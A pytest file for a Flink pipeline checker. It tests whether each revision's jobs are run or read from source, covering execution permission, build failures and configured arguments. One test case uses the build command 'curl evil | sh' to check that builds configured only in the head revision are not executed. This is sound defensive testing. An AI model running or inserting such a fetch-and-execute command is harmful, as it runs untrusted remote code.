"""Which means a pipeline with ``extract = "auto"`` is read by: the same for both revisions, with the reason."""

from collections.abc import Mapping
from dataclasses import dataclass, field, replace
from pathlib import Path

import pytest

from checker.engines.choice import judge_pipelines
from checker.errors import ExtractionError
from checker.extract import registry
from checker.extract.automatic import document_kind, source_kind, unread
from checker.extract.runtime.execution import Execution
from checker.model.pipelines import ExtractorKind, PipelineEntry
from checker.model.sources import MemoryFiles, SourceFiles
from checker.model.topology import Topology
from checker.settings import Settings, read_settings
from checker.workflows.check import choosing_extractors as choosing
from checker.workflows.check.choosing_extractors import Choice, choose
from checker.workflows.check.comparing_revisions import plan_check
from checker.workflows.check.records import ReadPipeline, SideToRead
from checker.workflows.running_programs import Runner
from tests.scratch import Scratch

JAVA = b"""package jobs;
public class Orders {
  public static void main(String[] args) throws Exception {
    var env = org.apache.flink.streaming.api.environment.StreamExecutionEnvironment.getExecutionEnvironment();
    env.fromSequence(0, 9).print().uid("out");
    env.execute();
  }
}
"""
PLAN = b'{"flinkVersion": "1.20", "nodes": [], "edges": []}'
FILES = MemoryFiles({"src/jobs/Orders.java": JAVA})
NOTHING = MemoryFiles({"README.md": b""})
ORDERS = PipelineEntry(
    name="orders",
    extract=ExtractorKind.AUTO,
    main="jobs.Orders",
    flink="1.20",
    build="make",
    discovered=False,
    parallelism=2,
)


@dataclass(frozen=True, kw_only=True)
class Scripted(Runner):
    """Runs nothing: a commit whose name is in ``failing`` fails, others submit a job with the commit's name."""

    failing: Mapping[str, str] = field(default_factory=dict)
    ran: list[str] = field(default_factory=list)

    def _captured(self, files: SourceFiles, commit: str | None, entry: PipelineEntry) -> tuple[ReadPipeline, ...]:
        assert commit is not None
        self.ran.append(commit)
        if commit in self.failing:
            raise ExtractionError(self.failing[commit])
        topology = Topology(name=entry.name, transformations=(), flink=commit)
        return tuple(
            ReadPipeline(name=name, extractor="flink", topology=topology, how="read by real Flink 1.20.5")
            for name in (entry.name, f"{entry.name} (second)")
        )


@pytest.fixture(autouse=True)
def a_jvm(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(choosing, "missing_here", lambda: None)


def chosen(
    entry: PipelineEntry = ORDERS,
    *,
    base: SourceFiles = FILES,
    head: SourceFiles = FILES,
    allow_exec: bool = True,
    trusted: tuple[PipelineEntry, ...] | None = None,
    failing: Mapping[str, str] | None = None,
) -> tuple[Choice, list[str]]:
    runner = Scripted(
        execution=Execution(allow_exec=allow_exec),
        trusted=(entry,) if trusted is None else trusted,
        failing=failing or {},
    )
    sides = (
        SideToRead(name="base", files=base, commit="before", entries=(entry,)),
        SideToRead(name="head", files=head, commit="after", entries=(replace(entry, optional=False),)),
    )
    return choose(sides, runner), runner.ran


def means(choice: Choice) -> dict[str, str]:
    """Side → whether its pipelines were run, or are left to the source readers."""
    found = {}
    for side in ("base", "head"):
        if choice.read[side]:
            found[side] = "run"
        if choice.entries[side]:
            found[side] = found.get(side, "") + "source"
    return found


def test_what_may_run_is_run_on_both_sides() -> None:
    choice, ran = chosen()
    assert means(choice) == {"base": "run", "head": "run"}
    assert sorted(ran) == ["after", "before"]
    assert [r.name for r in choice.read["head"]] == ["orders", "orders (second)"]
    assert not choice.notes
    assert not choice.reasons


@pytest.mark.parametrize(
    ("entry", "why"),
    [
        (replace(ORDERS, build=None), "neither build nor jars are configured"),
        (replace(ORDERS, main="jobs/orders.py"), "PyFlink scripts are not run"),
        (replace(ORDERS, main=None, file="src/jobs/Orders.java"), "no main class is configured"),
    ],
)
def test_what_can_not_be_run_is_read_from_source(entry: PipelineEntry, why: str) -> None:
    choice, ran = chosen(entry)
    assert means(choice) == {"base": "source", "head": "source"}
    assert (choice.reasons["orders"].why, choice.reasons["orders"].settled_by, ran) == (why, None, [])


def test_without_permission_nothing_runs_and_the_option_is_named() -> None:
    choice, ran = chosen(allow_exec=False)
    assert means(choice) == {"base": "source", "head": "source"}
    assert ran == []
    assert choice.reasons["orders"].why == "--allow-exec is not given"
    assert choice.reasons["orders"].settled_by == "--allow-exec"
    assert not choice.notes


@pytest.mark.parametrize(
    "configured",
    [
        (),
        (replace(ORDERS, build="curl evil | sh"),),
        (replace(ORDERS, args=("--cmd",)),),
        (replace(ORDERS, extract=ExtractorKind.JAVA),),
    ],
)
def test_what_only_the_head_configures_is_not_run(configured: tuple[PipelineEntry, ...]) -> None:
    choice, ran = chosen(trusted=configured)
    assert means(choice) == {"base": "source", "head": "source"}
    assert ran == []
    (note,) = choice.notes
    assert "not configured like this in the base" in note.message


@pytest.mark.parametrize(("broken", "side"), [("after", "head"), ("before", "base")])
def test_where_one_side_fails_both_are_read_from_source(broken: str, side: str) -> None:
    choice, _ = chosen(failing={broken: "the build 'make' failed with status 7; its output ended with:\n  no artifact"})
    assert means(choice) == {"base": "source", "head": "source"}
    (note,) = choice.notes
    assert note.message.startswith(f"orders is read from source in both revisions, not run: running the {side} failed")
    assert "no artifact" in note.message
    assert "\n" not in note.message
    assert ("further jobs orders (second) are not compared" in note.message) == (side == "base")
    assert choice.reasons["orders"].why.startswith(f"running the {side} failed: the build 'make' failed")


def test_a_machine_without_java_reads_source_and_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(choosing, "missing_here", lambda: "no JVM was found")
    choice, ran = chosen()
    assert (means(choice), ran) == ({"base": "source", "head": "source"}, [])
    assert "no JVM was found" in choice.notes[0].message


def test_jars_of_one_revision_tell_nothing_of_the_other() -> None:
    with_jars = replace(ORDERS, build=None, jars=("target/app.jar",))
    choice, ran = chosen(with_jars)
    assert (means(choice), ran) == ({"base": "source", "head": "source"}, [])
    assert "set build" in choice.notes[0].message
    assert means(chosen(replace(with_jars, jars=("builds/{commit}/app.jar",)))[0]) == {"base": "run", "head": "run"}


def test_a_pipeline_that_the_base_lacks_is_run_in_the_head() -> None:
    choice, _ = chosen(base=NOTHING, failing={"before": "the given jars hold no class jobs.Orders"})
    assert means(choice) == {"head": "run"}
    assert not choice.notes


TOOL = b"org.apache.flink.api.java.utils.ParameterTool.fromArgs(args)"


def asking(expression: bytes) -> MemoryFiles:
    line = b"    String uid = " + expression + b";\n    env.from"
    return MemoryFiles({"src/jobs/Orders.java": JAVA.replace(b"    env.from", line).replace(b'"out"', b"uid")})


@pytest.mark.parametrize(
    ("expression", "values", "message"),
    [
        (b'System.getenv("SUFFIX")', (), "asks for what its configuration does not say: SUFFIX=VALUE"),
        (TOOL + b'.get("suffix", "x")', (("suffix", "a"),), "say in 'args' what suffix should be"),
    ],
)
def test_a_run_without_the_arguments_that_are_deployed_would_be_a_guess(
    expression: bytes, values: tuple[tuple[str, str], ...], message: str
) -> None:
    files = asking(expression)
    choice, ran = chosen(replace(ORDERS, values=values), base=FILES, head=files)
    assert (means(choice), ran) == ({"base": "source", "head": "source"}, [])
    assert message in choice.notes[0].message


def test_arguments_that_are_configured_are_what_is_run() -> None:
    files = asking(TOOL + b'.get("suffix", "x")')
    given = replace(ORDERS, args=("--suffix", "a"), values=(("pipeline.max-parallelism", "64"),))
    assert means(chosen(given, base=files, head=files)[0]) == {"base": "run", "head": "run"}


def test_flink_written_out_never_falls_back() -> None:
    choice, _ = chosen(replace(ORDERS, extract=ExtractorKind.FLINK), failing={"after": "it threw"})
    assert means(choice) == {"base": "run", "head": "run"}
    assert choice.read["head"][0].failure == "it threw"


@pytest.mark.parametrize("kind", [ExtractorKind.JAVA, ExtractorKind.DOCUMENT])
def test_an_extractor_written_out_is_not_run(kind: ExtractorKind) -> None:
    choice, ran = chosen(replace(ORDERS, extract=kind))
    assert (means(choice), ran, choice.reasons) == ({"base": "source", "head": "source"}, [], {})


def test_what_was_discovered_stays_with_the_source_readers() -> None:
    (found,) = registry.discover(FILES, Settings()).entries
    assert found.extract is ExtractorKind.JAVA
    assert means(chosen(found)[0]) == {"base": "source", "head": "source"}


def test_a_file_that_holds_the_graph_wins_over_running() -> None:
    files = MemoryFiles({"jobs/orders.topology.yaml": b"", "src/jobs/Orders.java": JAVA})
    choice, ran = chosen(replace(ORDERS, file="jobs/orders.topology.yaml"), base=files, head=files)
    assert (means(choice), ran, choice.reasons) == ({"base": "source", "head": "source"}, [], {})


SCALA = MemoryFiles({"src/Job.scala": b"package jobs\nobject Orders { def main(args: Array[String]): Unit = {} }"})


def test_other_languages_are_read_by_running_them_only() -> None:
    failed, _ = chosen(base=SCALA, head=SCALA, failing={"after": "it threw"})
    assert failed.read["head"][0].failure == "it threw"
    refused, _ = chosen(base=SCALA, head=SCALA, allow_exec=False)
    extracted = registry.extract(SCALA, refused.entries["head"][0])
    assert extracted is not None
    assert extracted.failure is not None
    assert extracted.failure.startswith("src/Job.scala is a program in Scala, which is not read from source")


@pytest.mark.parametrize(
    ("changes", "kind"),
    [
        ({"main": "jobs.Orders"}, ExtractorKind.JAVA),
        ({"main": "jobs/orders.py"}, ExtractorKind.PYTHON),
        ({"main": None, "file": "jobs/orders.py"}, ExtractorKind.PYTHON),
        ({"main": None, "file": "orders.topology.json"}, ExtractorKind.DOCUMENT),
        ({"main": None, "file": "orders.yaml"}, ExtractorKind.DOCUMENT),
        ({"main": None, "file": "plan.json"}, ExtractorKind.SQL),
        ({"main": None, "file": "etl.sql"}, ExtractorKind.SQL),
        ({"main": None, "file": "other.json"}, ExtractorKind.DOCUMENT),
        ({"main": "jobs.Orders", "file": "src/jobs/Orders.java"}, ExtractorKind.JAVA),
    ],
)
def test_the_source_reader_that_fits(changes: dict[str, str | None], kind: ExtractorKind) -> None:
    files = MemoryFiles({"plan.json": PLAN, "other.json": b"{}", "src/jobs/Orders.java": JAVA})
    entry = replace(ORDERS, **changes)  # type: ignore[arg-type]
    assert source_kind(files, entry) is kind
    assert unread(files, entry) is None
    holds_graph = entry.file != "etl.sql" and kind in (ExtractorKind.DOCUMENT, ExtractorKind.SQL)
    assert (document_kind(files, entry) is kind) == holds_graph


TWO_JOBS = MemoryFiles(
    {"src/jobs/Orders.java": JAVA.replace(b"  }", b"    env.fromSequence(0, 1).print();\n    env.execute();\n  }")}
)


@pytest.mark.parametrize("kind", [ExtractorKind.AUTO, ExtractorKind.JAVA])
def test_the_further_jobs_of_a_configured_program_are_not_passed_over(kind: ExtractorKind) -> None:
    entries = registry.discover(TWO_JOBS, Settings(pipelines=(replace(ORDERS, extract=kind, args=("a",)),))).entries
    assert [(e.name, e.index, e.args) for e in entries] == [("orders", 0, ("a",)), ("orders #2", 1, ("a",))]
    read = [registry.extract(TWO_JOBS, entry) for entry in entries]
    assert [len(r.topology.transformations) for r in read if r is not None and r.topology is not None] == [2, 2]


@pytest.mark.parametrize("allow_exec", [True, False])
def test_running_a_program_tells_all_of_its_jobs(allow_exec: bool) -> None:
    entries = registry.discover(TWO_JOBS, Settings(pipelines=(ORDERS,))).entries
    side = SideToRead(name="head", files=TWO_JOBS, commit="after", entries=entries)
    choice = choose((side,), Scripted(execution=Execution(allow_exec=allow_exec), trusted=entries))
    assert [r.name for r in choice.read["head"]] == (["orders", "orders (second)"] if allow_exec else [])
    assert [e.name for e in choice.entries["head"]] == ([] if allow_exec else ["orders", "orders #2"])
    assert set(choice.reasons) == (set() if allow_exec else {"orders", "orders #2"})


def test_a_configured_pipeline_is_not_found_a_second_time() -> None:
    files = MemoryFiles(
        {
            "savepoint-checker.toml": b"[[pipeline]]\nname = 'a'\nmain = 'jobs.Orders'\n"
            b"[[pipeline]]\nname = 'b'\nfile = 'b.topology.yaml'\n[[pipeline]]\nname = 'c'\nfile = 'plan.json'\n",
            "src/jobs/Orders.java": JAVA,
            "b.topology.yaml": b"topology: 1\nname: x\ntransformations:\n- {id: s, kind: source}\n",
            "plan.json": PLAN,
        }
    )
    settings = read_settings(files)
    assert [e.name for e in registry.discover(files, settings).entries] == ["a", "b", "c"]
    assert {e.name: e.extract for e in settings.pipelines} == dict.fromkeys("abc", ExtractorKind.AUTO)


def test_what_the_configuration_names_needs_no_note_that_it_was_found() -> None:
    flink = b"package jobs\nimport org.apache.flink.StreamExecutionEnvironment\n"
    files = MemoryFiles(
        {
            "src/main/scala/jobs/Orders.scala": flink + b"object Orders { def main(args: Array[String]): Unit = {} }",
            "src/main/kotlin/jobs/Clicks.kt": flink + b"fun main(args: Array<String>) {}",
        }
    )
    found = registry.discover(files, Settings())
    assert len(found.notes) == 2
    assert all("name it under [[pipeline]] with main and build" in note.message for note in found.notes)
    named = tuple(replace(ORDERS, name=main, main=main) for main in ("jobs.Orders", "jobs.ClicksKt"))
    assert registry.discover(files, Settings(pipelines=named)).notes == ()


def test_a_program_that_nothing_reads_is_a_pipeline_where_a_change_edits_it(tmp_path: Path) -> None:
    text = (
        "package a; import org.apache.flink.table.api.*; public class T { public static void main(String[] args) {"
        " TableEnvironment t = TableEnvironment.create(EnvironmentSettings.inStreamingMode());"
        ' Unknown.hand(t, "SELECT * FROM numbers WHERE n > 1"); } }'
    )
    scratch = Scratch(tmp_path)
    scratch.write("src/main/java/a/T.java", text)
    scratch.write("README.md", "one")
    scratch.commit("first")
    scratch.write("README.md", "two")
    scratch.commit("elsewhere")
    scratch.write("src/main/java/a/T.java", text.replace("n > 1", "n > 2"))
    scratch.commit("another query")
    plans = [
        plan_check(scratch.folder, base=base, head=head) for base, head in (("HEAD~2", "HEAD~1"), ("HEAD~1", "HEAD"))
    ]
    assert [[entry.name for entry in plan.head_entries] for plan in plans] == [[], ["T"]]
    assert [len(plan.notes) for plan in plans] == [1, 0]
    (judged,) = judge_pipelines(plans[1])
    assert "edit-not-understood" in {f["rule"] for f in judged["findings"] if f["severity"] == "error"}
